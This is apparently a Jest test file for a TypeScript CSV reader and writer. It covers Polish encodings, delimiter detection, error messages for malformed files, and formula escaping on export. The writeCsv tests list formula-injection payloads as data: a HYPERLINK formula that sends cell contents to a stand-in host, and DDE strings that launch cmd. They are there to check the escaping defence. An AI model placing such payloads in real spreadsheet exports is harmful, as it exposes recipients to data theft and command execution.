import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { Readable } from 'node:stream';
import * as iconv from 'iconv-lite';
import {
	CsvError,
	readCsvRecords,
	validateCsvFile,
	writeCsv,
	type CsvFileInfo,
	type CsvReadOptions,
	type CsvRecord,
} from '../../../nodes/shared/files/csv';
import { EncodingError } from '../../../nodes/shared/files/encoding';

async function* chunked(buf: Buffer, size: number): AsyncGenerator<Buffer> {
	for (let i = 0; i < buf.length; i += size) yield buf.subarray(i, i + size);
}

type Opts = Omit<CsvReadOptions, 'header' | 'fileName'> & { fileName?: string };

async function readAll(buf: Buffer, opts: Opts, chunkSize = 1) {
	const out: CsvRecord[] = [];
	let encoding = '';
	let reason = '';
	let info: CsvFileInfo | undefined;
	for await (const r of readCsvRecords(chunked(buf, chunkSize), {
		fileName: 'plik.csv',
		header: true,
		...opts,
		onEncoding: (e, why) => {
			encoding = e;
			reason = why;
		},
		onInfo: (i) => {
			info = i;
		},
	})) {
		out.push(r);
	}
	return { records: out, encoding, reason, info: info as CsvFileInfo };
}

async function failure(buf: Buffer, opts: Opts, chunkSize = 1): Promise<CsvError> {
	const seen: CsvRecord[] = [];
	try {
		for await (const r of readCsvRecords(chunked(buf, chunkSize), { fileName: 'plik.csv', header: true, ...opts })) {
			seen.push(r);
		}
	} catch (e) {
		return e as CsvError;
	}
	throw new Error(`no error; ${seen.length} records`);
}

const POLISH_CSV =
	'Kod;Nazwa;Cena\r\n' +
	'ŻÓŁ-1;Zażółć gęślą jaźń;12,50\r\n' +
	'ĄĆĘ-2;"ZAŻÓŁĆ; GĘŚLĄ JAŹŃ";7,99\r\n' +
	'ŃŚŹ-3;"Łódź ""Śląsk""";1 234,00\r\n';
const EXPECTED = [
	{ line: 2, record: { Kod: 'ŻÓŁ-1', Nazwa: 'Zażółć gęślą jaźń', Cena: '12,50' } },
	{ line: 3, record: { Kod: 'ĄĆĘ-2', Nazwa: 'ZAŻÓŁĆ; GĘŚLĄ JAŹŃ', Cena: '7,99' } },
	{ line: 4, record: { Kod: 'ŃŚŹ-3', Nazwa: 'Łódź "Śląsk"', Cena: '1 234,00' } },
];

describe('readCsvRecords: encodings, 1-byte chunks', () => {
	it.each(['windows-1250', 'iso-8859-2', 'cp852', 'utf-8'] as const)('%s: explicit and auto give byte-exact UTF-8', async (enc) => {
		const bytes = enc === 'utf-8' ? Buffer.from(POLISH_CSV, 'utf8') : iconv.encode(POLISH_CSV, enc);
		for (const choice of [enc, 'auto'] as const) {
			const r = await readAll(bytes, { encoding: choice });
			expect(r.records).toEqual(EXPECTED);
			expect(r.encoding).toBe(enc);
			for (let i = 0; i < EXPECTED.length; i++) {
				expect(Buffer.from(r.records[i].record.Nazwa, 'utf8')).toEqual(Buffer.from(EXPECTED[i].record.Nazwa, 'utf8'));
			}
		}
	});

	it('UTF-8 with BOM, 1-byte chunks: BOM stripped from the first column name', async () => {
		const bytes = Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(POLISH_CSV, 'utf8')]);
		const r = await readAll(bytes, { encoding: 'auto' });
		expect(r.records).toEqual(EXPECTED);
		expect(r.reason).toBe('UTF-8 byte-order mark');
		expect(r.info.columns).toEqual(['Kod', 'Nazwa', 'Cena']);
		const r2 = await readAll(bytes, { encoding: 'utf-8' });
		expect(r2.records).toEqual(EXPECTED);
	});

	it('every chunk size splits multi-byte characters somewhere and still decodes', async () => {
		const bytes = Buffer.from(POLISH_CSV, 'utf8');
		for (const size of [1, 2, 3, 5, 7, 64]) {
			expect((await readAll(bytes, { encoding: 'auto', batchChars: 8 }, size)).records).toEqual(EXPECTED);
		}
	});

	it('auto: an ASCII start longer than the sample is decided at the first non-ASCII byte', async () => {
		const ascii = Array.from({ length: 5000 }, (_, i) => `A${i};Plain name ${i};1,00\r\n`).join('');
		expect(ascii.length).toBeGreaterThan(64 * 1024);
		for (const enc of ['utf-8', 'windows-1250', 'cp852'] as const) {
			const text = 'Kod;Nazwa;Cena\r\n' + ascii + 'ŻÓŁ-1;Zażółć gęślą jaźń;12,50\r\n';
			const bytes = enc === 'utf-8' ? Buffer.from(text, 'utf8') : iconv.encode(text, enc);
			const r = await readAll(bytes, { encoding: 'auto' }, 4096);
			expect(r.records).toHaveLength(5001);
			expect(r.records[5000]).toEqual({ line: 5002, record: { Kod: 'ŻÓŁ-1', Nazwa: 'Zażółć gęślą jaźń', Cena: '12,50' } });
			expect(r.encoding).toBe(enc);
			expect(r.reason).toContain(`(first non-ASCII byte at offset ${Buffer.byteLength('Kod;Nazwa;Cena\r\n' + ascii)})`);
		}
	});

	it('all-ASCII file: windows-1250 assumed and said', async () => {
		const r = await readAll(Buffer.from('a,b\n1,2\n'), { encoding: 'auto' });
		expect(r.records).toEqual([{ line: 2, record: { a: '1', b: '2' } }]);
		expect(r.reason).toBe('only ASCII bytes in the whole file, which fit every candidate: assumed windows-1250');
	});

	it('undecodable bytes: EncodingError with file and byte offset, never U+FFFD', async () => {
		const bytes = Buffer.concat([Buffer.from('a;b\r\nx;', 'latin1'), Buffer.from([0xb9, 0x98]), Buffer.from('\r\n')]);
		const err = await failure(bytes, { encoding: 'windows-1250' });
		expect(err).toBeInstanceOf(EncodingError);
		expect(err.message).toMatch(/^file "plik\.csv": cannot decode as windows-1250 at byte offset 8:/);
		const err2 = await failure(iconv.encode('a;b\r\nŁ;ó\r\n', 'windows-1250'), { encoding: 'utf-8' });
		expect(err2.message).toMatch(/^file "plik\.csv": cannot decode as utf-8 at byte offset 5:/);
	});

	it('accepts a Node Readable and a file stream', async () => {
		const bytes = iconv.encode(POLISH_CSV, 'windows-1250');
		const out: CsvRecord[] = [];
		for await (const r of readCsvRecords(Readable.from([bytes.subarray(0, 10), bytes.subarray(10)]), {
			encoding: 'auto',
			header: true,
			fileName: 'x.csv',
		})) {
			out.push(r);
		}
		expect(out).toEqual(EXPECTED);
		const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'csvtest-'));
		const file = path.join(dir, 'ceny.csv');
		fs.writeFileSync(file, bytes);
		const v = await validateCsvFile(fs.createReadStream(file, { highWaterMark: 7 }), {
			encoding: 'auto',
			header: true,
			fileName: 'ceny.csv',
		});
		expect(v).toMatchObject({ ok: true, rows: 3, columns: ['Kod', 'Nazwa', 'Cena'], delimiter: ';', encoding: 'windows-1250' });
		fs.rmSync(dir, { recursive: true });
	});
});

describe('readCsvRecords: delimiters, quoting, line numbers', () => {
	it('detects ";" (Polish Excel), "," and TAB', async () => {
		expect((await readAll(Buffer.from('a;b;c\n1;2,5;3\n'), { encoding: 'utf-8' })).info.delimiter).toBe(';');
		expect((await readAll(Buffer.from('a,b,c\n1,"2;5",3\n'), { encoding: 'utf-8' })).info.delimiter).toBe(',');
		const tab = await readAll(Buffer.from('a\tb\n1\t2\n'), { encoding: 'utf-8' });
		expect(tab.info.delimiter).toBe('\t');
		expect(tab.records).toEqual([{ line: 2, record: { a: '1', b: '2' } }]);
	});

	it('expected columns decide the delimiter when counts would mislead', async () => {
		// header "Nazwa, pełna;Kod": 1 comma, 1 semicolon
		const r = await readAll(Buffer.from('"Nazwa, pełna";Kod\nx;1\n'), { encoding: 'utf-8', expectedColumns: ['Kod'] });
		expect(r.info.delimiter).toBe(';');
		expect(r.info.delimiterReason).toBe('the header split by ";" has all expected columns');
	});

	it('quoted line breaks count in line numbers; blank lines are skipped and counted', async () => {
		const csv = 'a;b\r\n"x\r\ny\r\nz";1\r\n\r\nq;"2"\r\nr;3';
		const r = await readAll(Buffer.from(csv), { encoding: 'utf-8', batchChars: 4 });
		expect(r.records).toEqual([
			{ line: 2, record: { a: 'x\r\ny\r\nz', b: '1' } },
			{ line: 6, record: { a: 'q', b: '2' } },
			{ line: 7, record: { a: 'r', b: '3' } },
		]);
		expect(r.info.newline).toBe('\r\n');
	});
});

describe('readCsvRecords: malformed files name file, line and field', () => {
	const opts: Opts = { encoding: 'utf-8' };

	it('unbalanced quote (MissingQuotes)', async () => {
		const err = await failure(Buffer.from('kod,nazwa,cena\nA1,Łódź,1\nA2,"Żółw,2\nA3,Gęś,3\n'), opts);
		expect(err).toBeInstanceOf(CsvError);
		expect(err.message).toBe(
			'plik.csv line 3, field "nazwa": unbalanced quotes: the quoted field opened here is never closed (MissingQuotes); ' +
				'truncated file or a stray quote?',
		);
		expect([err.code, err.fileName, err.line, err.field]).toEqual(['MissingQuotes', 'plik.csv', 3, 'nazwa']);
	});

	it('truncated inside a quoted field at EOF (MissingQuotes), after multi-line cells', async () => {
		const err = await failure(Buffer.from('kod;opis\nA1;"wiersz 1\nwiersz 2"\nA2;"ucięty opis\nbez końca'), opts, 3);
		expect(err.message).toBe(
			'plik.csv line 4, field "opis": unbalanced quotes: the quoted field opened here is never closed (MissingQuotes); ' +
				'truncated file or a stray quote?',
		);
	});

	it('malformed quote (InvalidQuotes)', async () => {
		const err = await failure(Buffer.from('kod,nazwa,cena\nA1,"Łódź"x,1\n'), opts);
		expect(err.message).toBe(
			'plik.csv line 2, field "nazwa": malformed quotes: a closing quote must be followed by the delimiter or the end of the line (InvalidQuotes)',
		);
	});

	it('too few fields in the middle (TooFewFields)', async () => {
		const err = await failure(Buffer.from('kod;nazwa;cena\nA1;Łódź;1\nA2;Gęś\nA3;Żuk;3\n'), opts);
		expect(err.message).toBe('plik.csv line 3, field "cena": row has 2 fields, expected 3 (TooFewFields)');
		expect([err.code, err.line, err.field]).toEqual(['TooFewFields', 3, 'cena']);
	});

	it('too many fields (TooManyFields)', async () => {
		const err = await failure(Buffer.from('kod;nazwa;cena\nA1;Łódź;1,50\nA2;Gęś;1;50\n'), opts);
		expect(err.message).toBe('plik.csv line 3, field #4: row has 4 fields, expected 3 (TooManyFields)');
		expect(err.field).toBe('#4');
	});

	it('truncated file: last row short, no final line break', async () => {
		const err = await failure(Buffer.from('kod;nazwa;cena\nA1;Łódź;1\nA2;Gę'), opts);
		expect(err.message).toBe(
			'plik.csv line 3, field "cena": row has 2 fields, expected 3 (TooFewFields); it is the last row of the file: truncated file?',
		);
	});

	it('short last row is reported as such even when it ended a batch', async () => {
		const err = await failure(Buffer.from('kod;nazwa;cena\nA1;Łódź;1\nA2;Gęś\n\n'), { ...opts, batchChars: 4 });
		expect(err.message).toBe(
			'plik.csv line 3, field "cena": row has 2 fields, expected 3 (TooFewFields); it is the last row of the file: truncated file?',
		);
	});

	it('wrong delimiter: one column while several are expected', async () => {
		const err = await failure(Buffer.from('kod;nazwa;cena\nA1;Łódź;1\n'), {
			...opts,
			delimiter: ',',
			expectedColumns: ['kod', 'nazwa', 'cena'],
		});
		expect(err.message).toBe(
			'plik.csv line 1, header: wrong delimiter? found 1 column "kod;nazwa;cena" splitting by ",", expected 3 (kod, nazwa, cena); ' +
				'the header looks ";"-separated',
		);
		expect([err.code, err.line, err.field]).toEqual(['WrongDelimiter', 1, undefined]);
		const auto = await failure(Buffer.from('kod|nazwa|cena\nA1|Łódź|1\n'), { ...opts, expectedColumns: ['kod', 'nazwa'] });
		expect(auto.message).toBe('plik.csv line 1, header: wrong delimiter? found 1 column "kod|nazwa|cena" splitting by ",", expected 2 (kod, nazwa)');
	});

	it('missing and duplicate columns', async () => {
		const err = await failure(Buffer.from('kod;nazwa\nA1;x\n'), { ...opts, expectedColumns: ['kod', 'cena'] });
		expect(err.message).toBe('plik.csv line 1, header: missing column "cena"; found "kod", "nazwa" (delimiter ";")');
		const dup = await failure(Buffer.from('kod;kod\nA1;x\n'), opts);
		expect(dup.message).toBe('plik.csv line 1, header: column "kod" appears twice');
	});

	it('empty file', async () => {
		const err = await failure(Buffer.alloc(0), opts);
		expect(err.message).toBe('plik.csv line 1, header: the file is empty (no header line)');
	});

	it('line numbers stay right across batches (error far into the file)', async () => {
		const rows = Array.from({ length: 300 }, (_, i) => `K${i};"nazwa\n${i}";${i}`).join('\n');
		const csv = `kod;nazwa;cena\n${rows}\nZŁY;wiersz\nOK;x;1\n`;
		const err = await failure(Buffer.from(csv), { ...opts, batchChars: 100 }, 33);
		expect(err.message).toBe('plik.csv line 602, field "cena": row has 2 fields, expected 3 (TooFewFields)');
	});

	it('streaming yields good records before the error (caller must discard them)', async () => {
		const seen: CsvRecord[] = [];
		await expect(
			(async () => {
				for await (const r of readCsvRecords(chunked(Buffer.from('a;b\n1;2\n3;4\n5\n6;7\n'), 1), {
					encoding: 'utf-8',
					header: true,
					fileName: 'f.csv',
				})) {
					seen.push(r);
				}
			})(),
		).rejects.toThrow('f.csv line 4, field "b": row has 1 field, expected 2 (TooFewFields)');
		expect(seen).toHaveLength(2);
	});
});

describe('validateCsvFile', () => {
	it('counts rows without keeping them', async () => {
		const v = await validateCsvFile(chunked(iconv.encode(POLISH_CSV, 'cp852'), 5), {
			encoding: 'auto',
			header: true,
			fileName: 'dos.csv',
		});
		expect(v).toEqual({
			ok: true,
			fileName: 'dos.csv',
			rows: 3,
			columns: ['Kod', 'Nazwa', 'Cena'],
			delimiter: ';',
			encoding: 'cp852',
			encodingReason: expect.stringMatching(/^Polish-letter statistics: .* chose cp852 \(first non-ASCII byte at offset 16\)$/),
		});
	});

	it('returns the error and the rows seen before it', async () => {
		const v = await validateCsvFile(chunked(Buffer.from('a;b\n1;2\n3;4;5\n'), 4), { encoding: 'utf-8', header: true, fileName: 'z.csv' });
		expect(v.ok).toBe(false);
		if (v.ok) return;
		expect(v.rowsBeforeError).toBe(1);
		expect(v.error.message).toBe('z.csv line 3, field #3: row has 3 fields, expected 2 (TooManyFields)');
	});
});

describe('writeCsv', () => {
	const records = [
		{ Kod: 'ŻÓŁ-1', Nazwa: 'Zażółć gęślą jaźń', Cena: '12,50' },
		{ Kod: 'ĄĆĘ-2', Nazwa: 'ZAŻÓŁĆ; GĘŚLĄ JAŹŃ', Cena: '7,99' },
		{ Kod: 'ŃŚŹ-3', Nazwa: 'Łódź "Śląsk"', Cena: '1 234,00' },
	];

	it('writes Windows-1250 ";" CRLF exactly like a Polish Excel export', async () => {
		const buf = writeCsv(records, { columns: ['Kod', 'Nazwa', 'Cena'], delimiter: ';', encoding: 'windows-1250' });
		expect(buf).toEqual(iconv.encode(POLISH_CSV, 'windows-1250'));
		expect((await readAll(buf, { encoding: 'auto' })).records).toEqual(EXPECTED);
	});

	it('UTF-8 with BOM round-trips; nulls become empty; numbers are written', async () => {
		const buf = writeCsv([{ a: 'ą', b: null, c: 3 }], { columns: ['a', 'b', 'c'], delimiter: ',', bom: true });
		expect(buf).toEqual(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from('a,b,c\r\ną,,3\r\n', 'utf8')]));
	});

	it.each([
		['=HYPERLINK("http://zły.example/?"&A1;"Faktura")', `'=HYPERLINK(""http://zły.example/?""&A1;""Faktura"")`],
		['+48 600 100 200', "'+48 600 100 200"],
		["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
		["@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
		['\t=1+1', "'\t=1+1"],
		['\r=1+1', "'\r=1+1"],
	])('escapes a cell that a spreadsheet would run as a formula: %p', async (note, cell) => {
		const buf = writeCsv([{ kod: 'ŻÓŁ-1', uwagi: note }], { columns: ['kod', 'uwagi'], delimiter: ';' });
		const text = buf.toString('utf8');
		expect(text).toContain(`"${cell}"`);
		const back = (await readAll(buf, { encoding: 'utf-8', delimiter: ';' })).records[0];
		expect(back.record.uwagi).toBe(`'${note}`);
	});

	it('leaves numbers, negative amounts and ordinary text alone', () => {
		const rows = [{ a: '-3', b: '-12.50', c: '+5', d: 'zażółć = gęślą', e: -4, f: '1-2' }];
		const buf = writeCsv(rows, { columns: ['a', 'b', 'c', 'd', 'e', 'f'], delimiter: ';' });
		expect(buf.toString('utf8')).toBe('a;b;c;d;e;f\r\n-3;-12.50;+5;zażółć = gęślą;-4;1-2\r\n');
	});

	it('writes formulae as they are when escaping is switched off', () => {
		const buf = writeCsv([{ a: '=1+1' }], { columns: ['a'], escapeFormulae: false });
		expect(buf.toString('utf8')).toBe('a\r\n=1+1\r\n');
	});

	it('refuses a character the encoding lacks', () => {
		expect(() => writeCsv([{ a: 'cena 5 €' }], { columns: ['a'], encoding: 'iso-8859-2' })).toThrow(
			'character "€" (U+20AC) at position 10 cannot be written in iso-8859-2',
		);
	});
});
